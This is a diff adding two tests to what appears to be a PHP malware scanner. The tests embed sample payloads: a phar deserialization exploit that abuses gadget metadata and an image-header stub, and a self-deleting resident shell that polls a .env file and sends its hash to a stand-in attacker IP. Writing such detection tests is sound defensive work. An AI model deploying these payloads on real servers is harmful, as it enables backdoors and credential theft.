@@ -1124,3 +1124,64 @@ def test_an_upload_opened_as_an_image_is_a_resizer_not_a_dropper() -> None:
         b"$im = imagecreatefromjpeg($dest);\nimagejpeg($im, $dest, 80);\n"
     )
     assert "shell.upload-unchecked" not in rule_ids(analyze_bytes(held))
+
+
+def test_a_phar_built_with_an_object_as_metadata_is_a_deserialization_payload() -> None:
+    """A script that builds a phar archive and stores an object of a class as its metadata
+    (phar:// unserializes it: the gadget's __destruct runs with the properties the script
+    set) or gives it a stub with an image header (an upload form takes it for a picture)
+    makes an exploit, whatever class it names; the gadget's class need not be in the file.
+    A tool's phar build stores plain data (an array, a stdClass) and a PHP stub."""
+    gadget = (
+        b"<?php\n$o = new \\Shop\\Log\\Writer();\n$o->file = '/var/www/shop/pub/a.php';\n"
+        b"$o->lines = array('x');\n$a = new Phar('x.phar');\n$a->startBuffering();\n"
+        b"$a->setStub('<?php __HALT_COMPILER(); ?>');\n$a->addFromString('t', 't');\n"
+        b"$a->setMetadata($o);\n$a->stopBuffering();\n"
+    )
+    found = analyze_bytes(gadget)
+    assert "php.phar-deserialization-payload" in rule_ids(found)
+    assert found.verdict is ScanVerdict.MALICIOUS
+    image = (
+        b"<?php\n$a = new \\Phar('x.phar');\n$a->startBuffering();\n"
+        b"$a->setStub(\"\\xff\\xd8\\xff\\xe0\" . '<?php __halt_compiler(); ?>');\n"
+        b"$a->addFromString('t', 't');\n$a->stopBuffering();\n"
+    )
+    assert "php.phar-deserialization-payload" in rule_ids(analyze_bytes(image))
+    for build in (
+        b"<?php\n$p = new Phar('t.phar');\n$p->setMetadata(array('v' => '1.2'));\n"
+        b"$p->setStub(\"#!/usr/bin/env php\\n<?php Phar::mapPhar('t.phar');"
+        b" __HALT_COMPILER();\");\n",
+        b"<?php\n$m = new stdClass();\n$m->v = 2;\n$p = new PharData('t.tar');\n"
+        b"$p->setMetadata($m);\n",
+        b"<?php\n$p = new Phar('t.phar');\n$p->setMetadata($cfg->meta());\n"
+        b"$doc->setMetadata(new DocMeta('x'));\n",
+    ):
+        assert "php.phar-deserialization-payload" not in rule_ids(analyze_bytes(build))
+
+
+def test_a_script_that_deletes_itself_and_loops_for_ever_is_a_resident_shell() -> None:
+    """ignore_user_abort(true), no time limit, unlink(__FILE__) and then a loop that never
+    ends: the script keeps running in memory with no file on disk (an "immortal" shell that
+    polls, exfiltrates or rewrites a backdoor), malicious even when the loop itself runs no
+    command. An installer that deletes itself and leaves, a worker whose loop keeps its
+    file, and a loop before the self-deletion are not."""
+    resident = (
+        b"<?php\nignore_user_abort(true);\nset_time_limit(0);\n@unlink(__FILE__);\n$s = '';\n"
+        b"while (1) {\n    $t = @file_get_contents('/srv/app/.env');\n"
+        b"    if ($t !== $s) { $s = $t; @file_get_contents('http://203.0.113.9/?' . md5($t)); }\n"
+        b"    sleep(9);\n}\n"
+    )
+    found = analyze_bytes(resident)
+    assert "php.self-deleting-resident" in rule_ids(found)
+    assert found.verdict is ScanVerdict.MALICIOUS
+    for kept in (
+        b"<?php\nignore_user_abort(true);\nset_time_limit(0);\nimport_all();\n"
+        b"@unlink(__FILE__);\nheader('Location: /');\n",
+        b"<?php\nignore_user_abort(true);\nset_time_limit(0);\n"
+        b"while (true) { run_jobs(); sleep(5); }\n",
+        b"<?php\nignore_user_abort(true);\nset_time_limit(0);\n"
+        b"while (true) { if (done()) break; }\nunlink(__FILE__);\n",
+        b"<?php\nignore_user_abort();\nset_time_limit(0);\nunlink(__FILE__);\n"
+        b"while (true) { tick(); }\n",
+    ):
+        assert "php.self-deleting-resident" not in rule_ids(analyze_bytes(kept))
